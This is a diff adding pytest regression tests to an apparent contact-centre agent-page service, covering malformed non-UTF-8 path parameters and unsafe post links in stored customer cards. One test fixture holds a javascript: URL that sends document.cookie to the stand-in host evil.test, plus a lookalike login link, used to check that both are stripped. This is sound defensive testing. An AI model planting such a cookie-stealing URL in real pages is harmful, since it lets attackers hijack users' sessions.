@@ -139,3 +139,39 @@ def test_a_hostile_expiry_is_refused_not_a_server_error(screen_pop, expires):
 @pytest.mark.parametrize("sig", ["é" * 64, "0" * 100_000, "", "../"], ids=lambda value: ascii(value)[:20])
 def test_a_hostile_signature_is_refused_not_a_server_error(screen_pop, sig):
     assert screen_pop.open_link(screen_pop.forged_link(OLD_KEY), sig=sig) == 403
+
+
+@pytest.mark.parametrize("parameter", [{"customer_id": "\ud800"}, {"customer_id": "cust-1\udcff"},
+                                       {"phone": "\ud800"}, {"phone": "+44791112345\udc80"}],
+                         ids=["customer", "customer-suffix", "phone", "phone-suffix"])
+def test_a_path_parameter_that_is_not_utf8_is_refused_not_a_server_error(screen_pop, parameter):
+    page = load_handler("agent_page")
+    exp = str(int(screen_pop.clock.now) + 600)
+    event = {"pathParameters": parameter, "queryStringParameters": {"exp": exp, "sig": "0" * 64},
+             "requestContext": {"http": {"method": "GET"}}}
+    answer = page.lambda_handler(event, LambdaContext())
+    assert answer["statusCode"] in (403, 404)
+    assert screen_pop.open_link(screen_pop.forged_link(OLD_KEY)) == 200  # the page still opens genuine links
+
+
+def test_a_card_stored_before_the_link_guard_shows_no_unsafe_link_to_the_agent(screen_pop, aws):
+    # a card an earlier version built, not rebuilt since (the customer has not posted or been synced again)
+    posts = [{"post_key": f"facebook#p{n}", "platform": "facebook", "kind": "comment", "text": f"post {n}",
+              "sentiment": "negative", "created_at": iso(START - 60 * n), "url": url}
+             for n, url in enumerate(["javascript:fetch('https://evil.test/?c='+document.cookie)",
+                                      "https://evil.test/login", "https://www.facebook.com/1_2_3"])]
+    card = {**CARD, "posts": posts, "post_times": [p["created_at"] for p in posts]}
+    table = aws.specs["ContactLookupFunction"].environment["CARDS_TABLE"]
+    for key in ("PHONE#+447911123456", "CUSTOMER#cust-1"):
+        aws.client("dynamodb").put_item(TableName=table, Item={"pk": {"S": key}, "card": {"S": json.dumps(card)}})
+
+    answer = load_handler("contact_lookup").lambda_handler(CALL, LambdaContext())
+    assert [answer["last_post_url"], answer["history_1_url"], answer["history_2_url"]] == [
+        "", "", "https://www.facebook.com/1_2_3"]
+    link = urlsplit(answer["screen_pop_url"])
+    event = {"pathParameters": {"customer_id": "cust-1"}, "requestContext": {"http": {"method": "GET"}},
+             "queryStringParameters": {name: values[0] for name, values in parse_qs(link.query).items()}}
+    page = load_handler("agent_page").lambda_handler(event, LambdaContext())
+    assert page["statusCode"] == 200 and "post 1" in page["body"]
+    assert "evil.test" not in page["body"] and "javascript" not in page["body"]
+    assert "https://www.facebook.com/1_2_3" in page["body"]
